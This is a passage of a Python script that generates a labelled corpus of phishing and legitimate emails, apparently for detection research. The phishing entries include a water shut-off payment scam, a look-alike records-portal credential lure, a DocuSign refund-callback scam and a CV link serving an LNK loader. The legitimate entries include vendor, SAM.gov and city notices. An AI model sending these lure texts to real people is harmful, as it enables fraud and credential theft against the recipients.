                msgid=exchange_msgid(stem, "vendor_us").replace("PH7PR02MB", "MW4PR12MB").replace("namprd02", "namprd12"),
                body=body, auth=auth, sender_hops=hops,
                dkim=[("harlanspringsohgov.onmicrosoft.com", "selector1-harlanspringsohgov-onmicrosoft-com")],
                extra=outlook_extra(stem, "Request for Quotation - RFQ 2025-IT-041", True))
    add(stem, "phish", "phishing", "Purchase-order fraud against a supplier: look-alike city domain "
        "(harlanspringsoh-gov.us) requests a net-30 quote for 40 laptops shipped to a non-city warehouse address", raw)


def a49_water_disconnect() -> None:
    stem = "b36-phish-water-disconnection-notice"
    rcpt = "kmcgraw.home@gmail.com"
    url = "https://marshcreek-water-pay.com/quickpay/?acct=100-48813-02"
    plain = f"""MARSH CREEK WATER AUTHORITY
DISCONNECTION NOTICE

Account: 100-48813-02
Service address: 614 Ridgeview Rd
Past due balance: $187.40

Your account is past due. Water service at the address above is scheduled to be disconnected within 24 hours
unless payment is received. A reconnection fee of $75.00 will apply after disconnection.

Pay now to avoid interruption: {url}

Questions about this notice? Call our collections line at (717) 409-2268.

This notice was generated automatically. Please do not reply.
"""
    html = "<html><body style=\"font-family:Arial,sans-serif;font-size:14px\"><div style=\"max-width:560px;border:2px solid #b00020;padding:18px\">" + \
        "".join(f"<p>{htmlmod.escape(p).replace(chr(10), '<br>')}</p>" for p in plain.strip().split("\n\n")).replace(
            htmlmod.escape(url), f'<a href="{url}" style="font-weight:bold;color:#b00020">Pay now</a>') + "</div></body></html>\n"
    auth = Auth("185.244.180.61", "mail.marshcreek-water-pay.com", "billing@marshcreek-water-pay.com", "pass",
                [("marshcreek-water-pay.com", "default", "pass")], "none", "none", "marshcreek-water-pay.com")
    raw = build(stem=stem, profile="gmail", rcpt=rcpt, frm="Marsh Creek Water Authority <billing@marshcreek-water-pay.com>",
                subject="DISCONNECTION NOTICE - Past due balance $187.40 - Account 100-48813-02",
                date="2025-12-02 17:55:20 -0500", msgid=f"<{hx(stem, 26)}@marshcreek-water-pay.com>",
                body=alt(plain, html, f"=_{hx(stem + 'b', 32)}"), auth=auth, dkim=[("marshcreek-water-pay.com", "default")])
    add(stem, "phish", "phishing", "Utility shut-off scam to a water-authority customer from a look-alike payment domain: "
        "24-hour disconnection threat, payment link and a 'collections' phone number", raw)


def a50_govqa_lookalike() -> None:
    stem = "b36-phish-govqa-records-portal-lookalike"
    rcpt = "lperrault@harlanspringsoh.gov"
    url = "https://harlanspringsoh.mycusthelp-portal.com/WEBAPP/_rs/(S(x4kq0bnd2vy1))/supporthome.aspx?sSessionID=&lp=3"
    html = f"""<html><body style="font-family:Arial,sans-serif;font-size:13px;color:#222">
<p>Dear Records Custodian,</p>
<p>A new message has been posted by the requester on public records request <b>R000417-091825</b>.</p>
<table cellpadding="4" style="font-size:13px;border:1px solid #ddd">
<tr><td><b>Requester</b></td><td>Maria Cantrell, Harlan Springs Gazette</td></tr>
<tr><td><b>Subject</b></td><td>Council email correspondence - water rate study</td></tr>
<tr><td><b>Status</b></td><td>Awaiting Staff Response</td></tr>
<tr><td><b>Due date</b></td><td>09/25/2025</td></tr></table>
<p>The requester has attached a clarification letter. Please log in to the Public Records Center to view the message
and attachments.</p>
<p><a href="{url}">View Request R000417-091825</a></p>
<p style="font-size:11px;color:#777">City of Harlan Springs Public Records Center - Powered by GovQA</p>
</body></html>
"""
    auth = Auth("209.141.33.150", "smtp.mycusthelp-portal.com", "noreply@mycusthelp-portal.com", "pass",
                [("mycusthelp-portal.com", "mail", "pass")], "none", "none", "mycusthelp-portal.com")
    raw = build(stem=stem, profile="eop:harlan", rcpt=rcpt,
                frm="City of Harlan Springs Public Records Center <noreply@mycusthelp-portal.com>",
                subject="Public Records Request :: R000417-091825 - New message from requester",
                date="2025-09-19 10:38:14 -0400", msgid=f"<{hx(stem, 20)}@mycusthelp-portal.com>",
                body=alt(None, html, f"--boundary_{num(stem, 1)}_{guid(stem + 'g')}"), auth=auth,
                dkim=[("mycusthelp-portal.com", "mail")])
    add(stem, "phish", "phishing", "GovQA public-records portal look-alike (mycusthelp-portal.com vs the real "
        "mycusthelp.com) tells the clerk a requester posted a message; the login link harvests credentials", raw)


def a52_docusign_api_callback() -> None:
    stem = "b36-phish-docusign-genuine-mcafee-invoice"
    rcpt = "billing@marshcreekwater.org"
    url = (f"https://na4.docusign.net/Signing/EmailStart.aspx?a={guid(stem + 'a')}&etti=24&acct={guid(stem + 'acct')}"
           f"&er={guid(stem + 'er')}")
    msg = ("Your McAfee Total Protection (5 devices) subscription has been renewed for $499.99 and will be charged "
           "within 24 hours. Invoice MC-88431 is attached for your records. If you did not request this renewal, call "
           "our billing desk at +1 (844) 390-5126 to cancel and receive a refund.")
    html = f"""<html><head><meta http-equiv="Content-Type" content="text/html; charset=utf-8"></head>
<body style="padding:2%;background:#eaeaea"><table width="100%" cellpadding="0" cellspacing="0" style="max-width:640px;background:#ffffff;margin:auto;font-family:Helvetica,Arial,Sans Serif">
<tr><td style="padding:10px 24px"><img src="https://na4.docusign.net/Member/Images/email/docusign-logo.png" alt="Docusign" width="116"></td></tr>
<tr><td style="padding:0 24px 30px 24px"><table width="100%" style="background:#1e4ca1;color:#ffffff" cellpadding="0" cellspacing="0"><tr><td style="padding:28px 36px 36px 36px;text-align:center;font-size:16px">
<img src="https://na4.docusign.net/member/Images/email/docInvite-white.png" width="75" alt=""><br>
McAfee Billing Center sent you a document to review and sign.<br><br>
<a href="{url}" style="background:#ffc423;color:#333;font-size:15px;font-weight:bold;padding:12px 24px;text-decoration:none;display:inline-block">REVIEW DOCUMENT</a>
</td></tr></table></td></tr>
<tr><td style="padding:0 24px 24px 24px;font-size:15px;color:#333"><b>McAfee Billing Center</b><br>
<span style="color:#666">mcafee.billingdesk@proton.me</span><br><br>{msg}</td></tr>
<tr><td style="padding:30px 24px 45px 24px;background:#eaeaea;font-size:11px;color:#666">
<b>Do Not Share This Email</b><br>This email contains a secure link to Docusign. Please do not share this email, link, or access code with others.<br><br>
<b>Alternate Signing Method</b><br>Visit docusign.com, click 'Access Documents', and enter the security code:<br>{hx(stem + 'sc', 32).upper()}4<br><br>
<b>About Docusign</b><br>Sign documents electronically in just minutes. It's safe, secure, and legally binding.<br><br>
<b>Questions about the Document?</b><br>If you need to modify the document or have questions about the details in the document, please reach out to the sender by emailing them directly.<br><br>
This message was sent to you by McAfee Billing Center who is using the Docusign Electronic Signature Service.</td></tr>
</table></body></html>
"""
    plain = (f"McAfee Billing Center sent you a document to review and sign.\n\nREVIEW DOCUMENT: {url}\n\n{msg}\n\n"
             "Do Not Share This Email\nThis email contains a secure link to Docusign.\n")
    auth = Auth("64.207.219.136", "mailout-na4.docusign.net", "dse_NA4@docusign.net", "pass",
                [("docusign.net", "mail", "pass")], "pass", "reject", "docusign.net")
    raw = build(stem=stem, profile="eop:marsh", rcpt=rcpt, frm="McAfee Billing Center via Docusign <dse_NA4@docusign.net>",
                subject="Complete with Docusign: McAfee_Invoice_MC-88431.pdf", date="2024-09-12 14:27:55 -0700",
                msgid=f"<{hx(stem + 'ds', 32)}@docusign.net>",
                body=alt(plain, html, f"--boundary_0_{guid(stem + 'b')}"), auth=auth, dkim=[("docusign.net", "mail")],
                reply_to="McAfee Billing Center <mcafee.billingdesk@proton.me>",
                extra=[f"X-DocuSign-EnvelopeID: {guid(stem + 'env')}", "X-API-Host: na4.docusign.net"])
    add(stem, "phish", "phishing", "Genuine DocuSign envelope (docusign.net passes) created by a scammer: a fake McAfee "
        "renewal 'invoice' whose message gives a phone number to call for a refund; reply-to is Proton Mail", raw)


def a53_resume_link_lnk() -> None:
    stem = "b36-phish-cv-link-portfolio-zip-lnk"
    rcpt = "recruitment@ashmere.gov.uk"
    url = "https://callumreid-portfolio.netlify.app/cv/Callum_Reid_CV"
    ip, helo = gmail_out(stem)
    plain = f"""Dear Recruitment Team,

I would like to apply for the post of Senior Environmental Health Officer (ref ABC-0712). I am a registered EHO with
seven years' experience in food safety and housing standards at a London borough, most recently leading the
HMO licensing team.

My CV and supporting statement are on my portfolio site, as the attachment was too large for your system:
{url}

I can be available for interview at short notice.

Kind regards,
Callum Reid
07700 900 418
"""
    html = gmail_html("<div>" + "</div><div><br></div><div>".join(p.replace("\n", " ") for p in plain.strip().split("\n\n")).replace(
        url, f'<a href="{url}">{url}</a>') + "</div>")
    d = when("2025-07-14 22:16:03 +0100")
    auth = Auth(ip, helo, "callum.reid.cv@gmail.com", "pass", [("gmail.com", "20230601", "pass")], "pass", "none",
                "gmail.com")
    raw = build(stem=stem, profile="mc", rcpt=rcpt, frm="Callum Reid <callum.reid.cv@gmail.com>",
                subject="Application - Senior Environmental Health Officer (ABC-0712)", date="2025-07-14 22:16:03 +0100",
                msgid=gmail_msgid(stem), body=alt(plain, html, f"000000000000{hx(stem + 'a', 16)}"), auth=auth,
                dkim=[("gmail.com", "20230601")], top=gmail_extra(stem, d))
    add(stem, "phish", "malware", "Job application to the council's recruitment inbox with the CV 'too large to attach' "
        "on a netlify.app portfolio page that serves a zip with a shortcut (LNK) loader", raw)


ATTACKS = [a01_dunlap_share, a02_docusign_lookalike, a03_bidnet_lookalike, a04_bonfire_compromised_vendor,
           a05_sam_renewal_service, a06_hud_grant, a07_dd_change_gmail, a08_workday_dd, a09_kaminski_vec,
           a10_summit_lookalike_bank, a11_sierracrest_invoice, a12_mayor_giftcards, a13_gm_wire, a14_jury_callback,
           a15_hmcts_zip_link, a16_parking_lookalike, a17_uk_pcn, a18_property_tax, a19_txtag_spanish,
           a20_council_tax_rebate, a21_geek_squad, a22_paypal_invoice_callback, a23_qr_open_enrollment,
           a24_qr_mfa_inline, a25_foia_zip, a26_resume_encrypted_zip, a27_invoice_js_zip, a28_html_smuggling,
           a29_bacs_htm_form, a30_docm_po, a31_bid_iso, a32_pdf_msi, a33_teams_ics, a34_voicemail_htm,
           a35_gdrive_share, a36_sharepoint_compromised, a37_adobe_sign_abuse, a38_dropbox_lookalike, a39_sextortion,
           a40_unclaimed_funds, a41_k12_job_scam, a43_njc_pay_award, a44_procontract_lookalike, a46_efile_served_zip,
           a47_thread_hijack_link, a48_rfq_goods_fraud, a49_water_disconnect, a50_govqa_lookalike,
           a52_docusign_api_callback, a53_resume_link_lnk]


# ==================================================================================================
# LEGITIMATE
# ==================================================================================================

def lnks(url: str, bulletin: str, n: int, seed: str) -> str:
    import json

    payload = json.dumps({"bulletin_link_id": f"{100 + n}", "uri": "bp2:click", "url": url, "bulletin_id": bulletin},
                         separators=(",", ":"))
    p64 = base64.urlsafe_b64encode(payload.encode()).decode().rstrip("=")
    return (f"https://lnks.gd/l/eyJhbGciOiJIUzI1NiJ9.{p64}.{aln(seed + str(n), 43)}/s/{num(seed, 10)}/br/"
            f"{num(seed + 'br', 12)}-l")


def l01_bidnet_notice() -> None:
    stem = "b36-legit-bidnet-daily-bid-notification"
    rcpt = "matt.fuller@ridgelineelectric.com"
    bids = [
        ("Kessler County", "RFP 25-031 Electrical Upgrades - Courthouse Annex", "04/02/2025", "kessler-county"),
        ("City of San Marcos", "IFB 225-118 Traffic Signal Cabinet Replacements", "03/28/2025", "city-of-san-marcos"),
        ("Hays CISD", "RFP 24-25-061 Gymnasium LED Lighting Retrofit", "04/08/2025", "hays-cisd"),
    ]
    rows = "".join(
        f'<tr><td style="padding:10px;border-bottom:1px solid #e3e3e3"><a href="https://www.bidnetdirect.com/texas/'
        f'{slug}/solicitations/{num(stem + t, 12)}?utm_source=notification&amp;utm_medium=email&amp;utm_campaign=daily" '
        f'style="color:#005a9c;font-weight:bold">{htmlmod.escape(t)}</a><br><span style="color:#555">{agency} &#8226; '
        f'Closing {close}</span></td></tr>' for agency, t, close, slug in bids)
    html = f"""<html><body style="margin:0;background:#f2f2f2;font-family:Arial,Helvetica,sans-serif;font-size:14px">
<table width="100%" cellpadding="0" cellspacing="0"><tr><td align="center" style="padding:16px">
<table width="620" cellpadding="0" cellspacing="0" style="background:#fff">
<tr><td style="padding:18px 20px"><img src="https://www.bidnetdirect.com/public/images/bidnet-direct-logo.png" alt="BidNet Direct" width="160"></td></tr>
<tr><td style="padding:0 20px 12px 20px;color:#333">Hello Matt,<br><br>3 new solicitations match your
<b>Electrical Contractors</b> profile in Texas (03/12/2025).</td></tr>
<tr><td style="padding:0 20px"><table width="100%" cellpadding="0" cellspacing="0">{rows}</table></td></tr>
<tr><td style="padding:18px 20px;color:#555;font-size:12px">Documents for these solicitations are available after you log in to
your BidNet Direct account at bidnetdirect.com. Your Texas Purchasing Group registration is free of charge.<br><br>
<a href="https://www.bidnetdirect.com/private/supplier/profile/notifications?utm_source=notification" style="color:#005a9c">Manage notification settings</a>
 | <a href="https://www.bidnetdirect.com/unsubscribe?t={aln(stem, 40)}" style="color:#005a9c">Unsubscribe</a><br>
BidNet Direct, an mdf commerce company &#8226; 20 Corporate Woods Blvd, Albany, NY 12211</td></tr>
</table></td></tr></table></body></html>
"""
    mf = f"010d{hx(stem, 12)}-{guid(stem + 'm')}-000000@mail.bidnetdirect.com"
    auth = Auth("54.240.51.14", "e251-14.smtp-out.ca-central-1.amazonses.com", mf, "pass",
                [("bidnetdirect.com", "x7m3n2", "pass"), ("amazonses.com", "ihchhvubuqgjsxyuhssfvqohv7z3u4hn", "pass")],
                "pass", "quarantine", "bidnetdirect.com")
    raw = build(stem=stem, profile="gws", rcpt=rcpt, frm="BidNet Direct <notifications@bidnetdirect.com>",
                subject="BidNet Direct: 3 new bids match your profile - 03/12/2025", date="2025-03-12 06:02:41 -0400",
                msgid=f"<010d{hx(stem, 12)}-{guid(stem + 'm')}-000000@ca-central-1.amazonses.com>",
                body=alt(None, html, f"----=_Part_{num(stem, 6)}_{num(stem + 'a', 9)}.{num(stem + 'b', 13)}"), auth=auth,
                dkim=[("bidnetdirect.com", "x7m3n2"), ("amazonses.com", "ihchhvubuqgjsxyuhssfvqohv7z3u4hn")],
                extra=[f"List-Unsubscribe: <https://www.bidnetdirect.com/unsubscribe?t={aln(stem, 40)}>",
                       "List-Unsubscribe-Post: List-Unsubscribe=One-Click",
                       f"Feedback-ID: ::1.ca-central-1.{aln(stem + 'fb', 43)}=:AmazonSES"])
    add(stem, "legit", "bulk", "Genuine BidNet Direct daily match notice (bidnetdirect.com via SES, aligned DKIM) listing "
        "three solicitations, including the same county RFP a fake notice in this set imitates", raw)


def l02_bonfire_addendum() -> None:
    stem = "b36-legit-bonfire-addendum-posted"
    rcpt = "estimating@sierracrestbuilders.com"
    opp = "https://brookvaleusd.bonfirehub.com/opportunities/148203"
    html = f"""<html><body style="margin:0;background:#f6f7f9;font-family:Helvetica,Arial,sans-serif">
<table width="100%" cellpadding="0" cellspacing="0"><tr><td align="center" style="padding:24px">
<table width="580" cellpadding="0" cellspacing="0" style="background:#fff;border-radius:4px">
<tr><td style="padding:20px 28px;border-bottom:1px solid #eee"><b style="font-size:16px;color:#1d2b4f">Brookvale Unified School District</b></td></tr>
<tr><td style="padding:22px 28px;font-size:14px;color:#333;line-height:1.5">
<p>Hello,</p>
<p>An addendum has been posted to an opportunity you are following:</p>
<p><b>RFP 25-014 Roosevelt Middle School Modernization - Increment 3</b><br>
Addendum #2: Revised door hardware schedule, response to RFIs 7-12<br>
Posted: March 4, 2025 3:18 PM PST<br>Closes: March 20, 2025 2:00 PM PST</p>
<p>Please acknowledge the addendum in your submission.</p>
<p><a href="{opp}" style="background:#2b6bd6;color:#fff;padding:10px 20px;border-radius:3px;text-decoration:none">View Opportunity</a></p>
</td></tr>
<tr><td style="padding:16px 28px;font-size:11px;color:#888">You are receiving this email because you are a registered supplier
following this opportunity on Bonfire. Bonfire Interactive Ltd., part of Euna Solutions.</td></tr>
</table></td></tr></table></body></html>
"""
    plain = (f"Brookvale Unified School District\n\nAn addendum has been posted to an opportunity you are following:\n\n"
             "RFP 25-014 Roosevelt Middle School Modernization - Increment 3\nAddendum #2: Revised door hardware schedule, "
             "response to RFIs 7-12\nPosted: March 4, 2025 3:18 PM PST\nCloses: March 20, 2025 2:00 PM PST\n\n"
             f"View Opportunity: {opp}\n")
    mf = f"bounces+2817734-{hx(stem, 4)}-estimating=sierracrestbuilders.com@em3310.gobonfire.com"
    auth = Auth("167.89.71.220", "o1678971x220.outbound-mail.sendgrid.net", mf, "pass",
                [("gobonfire.com", "s1", "pass"), ("sendgrid.info", "smtpapi", "pass")], "pass", "none", "gobonfire.com")
    raw = build(stem=stem, profile="eop:vendor_us", rcpt=rcpt, frm="Bonfire <noreply@gobonfire.com>",
                subject="Addendum #2 posted: RFP 25-014 Roosevelt Middle School Modernization - Increment 3",
                date="2025-03-04 23:19:07 +0000", msgid=f"<{aln(stem, 22)}@geopod-ismtpd-7>",
                body=alt(plain, html, hx(stem + "b", 60)), auth=auth,
                dkim=[("gobonfire.com", "s1"), ("sendgrid.info", "smtpapi")],
                sender_hops=[f"Received: by recvd-7f9d6c7f9-hl4rz with SMTP id recvd-7f9d6c7f9-hl4rz-1-{hx(stem, 8).upper()}-3"])
    add(stem, "legit", "bulk", "Genuine Bonfire addendum notice for a district construction RFP, sent through SendGrid "
        "with gobonfire.com DKIM; link goes to the district's bonfirehub.com portal", raw)


def l03_samgov_reminder() -> None:
    stem = "b36-legit-samgov-expiration-reminder"
    rcpt = "dkowalczyk@harlanspringsoh.gov"
    plain = """Dear SAM.gov user,

The entity registration for CITY OF HARLAN SPRINGS (Unique Entity ID: ZK4NM7R2JQ58, CAGE: 8RT41) will expire on
06/14/2025.

To keep your registration active, an Entity Administrator must renew the registration at https://sam.gov before
the expiration date. Allow up to 10 business days for your renewal to be processed.

Registration in SAM.gov is FREE. You do not have to pay a third party to register or renew. Beware of companies that
charge for SAM registration or claim to be affiliated with the government.

For help, visit the Federal Service Desk at https://www.fsd.gov or call 866-606-8220.

Thank you,
SAM.gov

This is an automated message. Please do not reply.
"""
    mf = f"010001{hx(stem, 10)}-{guid(stem)}-000000@notifications.sam.gov"
    auth = Auth("54.240.9.112", "a9-112.smtp-out.amazonses.com", mf, "pass",
                [("sam.gov", "wlmx7fz4kn6k5m2ajuwfnl3wryhbbvvz", "pass"), ("amazonses.com", "224i4yxa5dv7c2xz3womw6peuasteono", "pass")],
                "pass", "reject", "sam.gov")
    raw = build(stem=stem, profile="eop:harlan", rcpt=rcpt, frm="SAM.gov <do-not-reply@sam.gov>",
                subject="SAM.gov Entity Registration Expiration Notice - 60 days", date="2025-04-15 04:11:09 +0000",
                msgid=f"<010001{hx(stem, 10)}-{guid(stem)}-000000@email.amazonses.com>",
                body=text(plain, "plain", "7bit", "us-ascii"), auth=auth,
                dkim=[("sam.gov", "wlmx7fz4kn6k5m2ajuwfnl3wryhbbvvz"), ("amazonses.com", "224i4yxa5dv7c2xz3womw6peuasteono")],
                extra=[f"Feedback-ID: ::1.us-east-1.{aln(stem, 43)}=:AmazonSES"])
    add(stem, "legit", "bulk", "Genuine SAM.gov 60-day expiration notice (sam.gov DKIM via SES, DMARC reject passes) "
        "that itself warns registration is free; counterpart of the renewal-fee scam", raw)


def l04_quickbooks_invoice() -> None:
    stem = "b36-legit-paving-quickbooks-invoice"
    rcpt = "mbell@harlanspringsoh.gov"
    view = f"https://connect.intuit.com/portal/app/CommerceNetwork/view/scs-v1-{hx(stem, 64)}?locale=en_US&cta=viewinvoicenow"
    inv = text_pdf([
        "Kaminski Paving & Excavating, LLC",
        "4410 State Route 18, Harlan Springs, OH 44839   (419) 663-2280",
        "",
        "INVOICE 1187                                   Date: 05/02/2025",
        "Bill to: City of Harlan Springs - Finance Dept.   Terms: Net 30",
        "",
        "Catch basin rebuild, 300 blk N Walnut St (PO 25-0412)     $ 6,840.00",
        "Asphalt patching, alley behind 100 blk E Market            $ 3,115.00",
        "",
        "TOTAL DUE                                                  $ 9,955.00",
        "",
        "Remit by check or ACH per vendor file on record. Thank you for your business!",
    ], "Invoice 1187", "Intuit QuickBooks", "20250502141102-07'00'")
    html = f"""<html><body style="margin:0;background:#eceef1;font-family:Avenir,Helvetica,Arial,sans-serif">
<table width="100%" cellpadding="0" cellspacing="0"><tr><td align="center" style="padding:24px">
<table width="560" cellpadding="0" cellspacing="0" style="background:#fff">
<tr><td style="padding:24px;font-size:20px;color:#393a3d">Kaminski Paving &amp; Excavating, LLC</td></tr>
<tr><td style="padding:0 24px;color:#6b6c72;font-size:14px">INVOICE 1187 DETAILS</td></tr>
<tr><td style="padding:8px 24px;font-size:34px;color:#393a3d">$9,955.00</td></tr>
<tr><td style="padding:0 24px 16px 24px;font-size:14px;color:#393a3d">Due 06/01/2025</td></tr>
<tr><td style="padding:0 24px 20px 24px"><a href="{view}" style="background:#2ca01c;color:#fff;padding:12px 30px;border-radius:4px;text-decoration:none;font-size:15px">Review and pay</a></td></tr>
<tr><td style="padding:0 24px 20px 24px;font-size:14px;color:#393a3d">Dear Marcus,<br><br>Here's invoice 1187 for $9,955.00 for the
Walnut St catch basin and the Market St alley patching (PO 25-0412). Lien waiver to follow by mail.<br><br>Have a great day,<br>Sheila
Dorsey<br>Kaminski Paving &amp; Excavating, LLC</td></tr>
<tr><td style="padding:16px 24px;font-size:11px;color:#8d9096;border-top:1px solid #eee">Kaminski Paving &amp; Excavating, LLC<br>
4410 State Route 18, Harlan Springs, OH 44839<br>sdorsey@kaminskipaving.com<br><br>
If you receive an email that seems fraudulent, please check with the business owner before paying.<br>
&copy; Intuit, Inc. All rights reserved. Privacy | Security | Terms of Service</td></tr>
</table></td></tr></table></body></html>
"""
    plain = (f"Kaminski Paving & Excavating, LLC\n\nINVOICE 1187 DETAILS\n$9,955.00\nDue 06/01/2025\n\nReview and pay: {view}\n\n"
             "Dear Marcus,\n\nHere's invoice 1187 for $9,955.00 for the Walnut St catch basin and the Market St alley "
             "patching (PO 25-0412). Lien waiver to follow by mail.\n\nHave a great day,\nSheila Dorsey\n"
             "Kaminski Paving & Excavating, LLC\n\nIf you receive an email that seems fraudulent, please check with the "
             "business owner before paying.\n")
    body = mixed(f"----=_Part_{num(stem, 7)}_{num(stem + 'a', 9)}.{num(stem + 'b', 13)}",
                 alt(plain, html, f"----=_Part_{num(stem + 'c', 7)}_{num(stem + 'd', 9)}.{num(stem + 'e', 13)}"),
                 attachment("application/pdf", "Invoice_1187_from_Kaminski_Paving__Excavating_LLC.pdf", inv))
    auth = Auth("206.108.40.71", "mail-out-071.notification.intuit.com", "quickbooks@notification.intuit.com", "pass",
                [("notification.intuit.com", "s2048", "pass")], "pass", "reject", "notification.intuit.com")
    raw = build(stem=stem, profile="eop:harlan", rcpt=rcpt,
                frm="Kaminski Paving & Excavating, LLC <quickbooks@notification.intuit.com>",
                subject="Invoice 1187 from Kaminski Paving & Excavating, LLC", date="2025-05-02 17:11:06 -0400",
                msgid=f"<{guid(stem + 'qb')}@notification.intuit.com>", body=body, auth=auth,
                dkim=[("notification.intuit.com", "s2048")], reply_to="sdorsey@kaminskipaving.com")
    add(stem, "legit", "clean", "Genuine QuickBooks Online invoice from the city's paving contractor (intuit.com passes), "
        "small job with PDF, 'remit per vendor file on record' - no payment-detail change", raw)


def l05_bank_change_proper() -> None:
    stem = "b36-legit-it-supplier-bank-change-announced"
    rcpt = "mbell@harlanspringsoh.gov"
    ip, helo, rdns, hops = m365_out(stem, "NAM12-DM6", "namprd12.prod.outlook.com", "DM6PR12MB")
    letter = text_pdf([
        "Huntington National Bank - Commercial Banking",
        "17 S. High Street, Columbus, OH 43215",
        "",
        "June 23, 2025",
        "",
        "To Whom It May Concern:",
        "",
        "This letter confirms that Buckeye Technology Partners, LLC maintains a commercial",
        "operating account with The Huntington National Bank, account number ending 4471,",
        "opened June 2, 2025. Full account details will be provided directly to customers",
        "through their supplier registration systems.",
        "",
        "Sincerely,",
        "Alicia Romero, Vice President, Commercial Banking",
    ], "Bank Confirmation Letter", "Adobe Acrobat Pro (64-bit) 25.1.20432", "20250623101502-04'00'")
    plain = """Hello Marcus,

I'm writing to give the City advance notice that Buckeye Technology Partners is moving its operating accounts from
PNC to Huntington. The change takes effect for payments issued on or after August 1, 2025.

So that this can be verified properly:

- I have NOT included new account numbers in this email. I submitted the change through the City's Supplier
  Self-Service portal this morning (vendor #20418), with the bank confirmation letter attached there as well.
- Please verify the request by calling our office at the number already on your vendor file, (614) 827-3300, and
  asking for me or for Brian Sato (copied), your account manager. We'll walk through it on the phone.
- Until you have verified, please keep paying the existing PNC account. Both accounts remain open through
  September 30, so nothing will bounce in the meantime.

The attached Huntington letter is for your file only. Our W-9 and remit-to address are unchanged.

Thank you for your help, and feel free to call with any questions.

Carol Jennings
Controller
Buckeye Technology Partners, LLC
5500 Frantz Rd, Suite 150, Dublin, OH 43017
(614) 827-3300 ext. 105
"""
    html = outlook_html(paras(*[p.replace("\n", "<br>") for p in plain.strip().split("\n\n")]))
    body = mixed(outlook_boundary(stem, "004"), alt(plain, html, outlook_boundary(stem)),
                 attachment("application/pdf", "Huntington bank confirmation letter - BTP.pdf", letter))
    auth = Auth(ip, helo, "cjennings@buckeyetechpartners.com", "pass",
                [("buckeyetechpartners.com", "selector1", "pass")], "pass", "reject", "buckeyetechpartners.com", rdns)
    topic = "Advance notice: Buckeye Technology Partners banking change effective 8/1/2025"
    raw = build(stem=stem, profile="eop:harlan", rcpt=rcpt, frm="Carol Jennings <cjennings@buckeyetechpartners.com>",
                cc="Brian Sato <bsato@buckeyetechpartners.com>", subject=topic, date="2025-06-24 10:02:51 -0400",
                msgid=exchange_msgid(stem, "vendor_us").replace("PH7PR02MB", "DM6PR12MB").replace("namprd02", "namprd12"),
                body=body, auth=auth, sender_hops=hops, dkim=[("buckeyetechpartners.com", "selector1")],
                extra=outlook_extra(stem, topic, True))
    add(stem, "legit", "clean", "Properly announced supplier bank change: weeks of notice, no account numbers by email, "
        "change entered via the city's supplier portal, call-back to the number on file, old account kept open", raw)


def l06_govdelivery_city() -> None:
    stem = "b36-legit-govdelivery-city-newsletter"
    rcpt = "tlee.harlan@gmail.com"
    bul = "20251028.3311847"
    base = "https://www.harlanspringsoh.gov"
    items = [
        ("Curbside Leaf Collection Begins November 3",
         "Crews will work through each zone twice before December 12. Rake leaves to the tree lawn, not into the street.",
         f"{base}/departments/public-works/leaf-collection"),
        ("Public Hearings on the 2026 Budget",
         "City Council will hold public hearings on the proposed 2026 operating and capital budgets on Nov. 10 and Nov. 24.",
         f"{base}/government/finance/budget"),
        ("Winter Parking Ban Reminder",
         "From December 1 to March 31, no parking on snow emergency routes when 2 inches or more is forecast.",
         f"{base}/departments/police/snow-emergency"),
        ("Pay Your Utility Bill Online",
         "Residents can pay water and sewer bills online through the City's secure payment portal. The City will never "
         "text you asking for payment.", f"{base}/departments/utilities/pay-online"),
    ]
    blocks = "".join(
        f'<tr><td style="padding:14px 24px;border-bottom:1px solid #e5e5e5"><a href="{lnks(u, bul, i, stem)}" '
        f'style="font-size:18px;color:#0b4f8a;font-weight:bold;text-decoration:none">{t}</a><p style="font-size:14px;'
        f'color:#333;margin:6px 0 0 0">{d}</p></td></tr>' for i, (t, d, u) in enumerate(items))
    unsub = f"https://public.govdelivery.com/accounts/OHHARLANSPRINGS/subscriber/edit?preferences=true#tab1"
    html = f"""<html><body style="margin:0;background:#eeeeee">
<table width="100%" cellpadding="0" cellspacing="0"><tr><td align="center">
<table width="600" cellpadding="0" cellspacing="0" style="background:#ffffff;font-family:Arial,Helvetica,sans-serif">
<tr><td style="background:#0b4f8a;padding:18px 24px;color:#fff;font-size:24px">City of Harlan Springs<br><span style="font-size:14px">City News - October 28, 2025</span></td></tr>
{blocks}
<tr><td style="padding:18px 24px;font-size:12px;color:#666">Stay connected: <a href="{lnks('https://www.facebook.com/HarlanSpringsOH', bul, 9, stem)}">Facebook</a> |
<a href="{lnks('https://www.instagram.com/harlanspringsoh', bul, 10, stem)}">Instagram</a><br><br>
SUBSCRIBER SERVICES: <a href="{unsub}">Manage Subscriptions</a> | <a href="https://subscriberhelp.granicus.com/">Help</a><br><br>
This email was sent to {rcpt} using GovDelivery Communications Cloud on behalf of: City of Harlan Springs &#183; 200 W. Center St. &#183; Harlan Springs, OH 44839</td></tr>
</table></td></tr></table>
<img src="https://links.govdelivery.com:443/track?enid={aln(stem + 'enid', 60)}&amp;type=open&amp;bulletin={bul}" width="1" height="1" alt="">
</body></html>
"""
    mf = f"bounce-{num(stem, 9)}-{num(stem + 'b', 8)}@public.govdelivery.com"
    auth = Auth("209.166.169.66", "mail66.govdelivery.com", mf, "pass", [("govdelivery.com", "gd2", "pass")], "pass",
                "none", "public.govdelivery.com", "mail66.govdelivery.com")
    raw = build(stem=stem, profile="gmail", rcpt=rcpt, frm="City of Harlan Springs <ohharlansprings@public.govdelivery.com>",
                subject="City News: Leaf Collection Starts Nov. 3 | 2026 Budget Hearings | Winter Parking Ban",
                date="2025-10-28 12:00:31 -0500", msgid=f"<{bul}.{num(stem + 'mid', 7)}@public.govdelivery.com>",
                body=alt(None, html, f"----=_Part_{num(stem, 8)}_{num(stem + 'p', 9)}.{num(stem + 'q', 13)}"), auth=auth,
                dkim=[("govdelivery.com", "gd2")],
                extra=["x-accountcode: OHHARLANSPRINGS", f"X-Bulletin-Id: {bul}", "Precedence: bulk",
                       f"List-Unsubscribe: <https://public.govdelivery.com/accounts/OHHARLANSPRINGS/subscriber/one_click_unsubscribe?verification={aln(stem + 'v', 48)}&destination={rcpt}>",
                       "List-Unsubscribe-Post: List-Unsubscribe=One-Click"])
    add(stem, "legit", "bulk", "Genuine GovDelivery city newsletter to a resident, every link wrapped in lnks.gd "
        "tracking redirects, open pixel and one-click unsubscribe", raw)


def l07_govdelivery_spanish() -> None:
    stem = "b36-legit-govdelivery-spanish-boil-notice-lifted"
    rcpt = "rosa.gutierrez82@gmail.com"
    bul = "20250714.4102273"
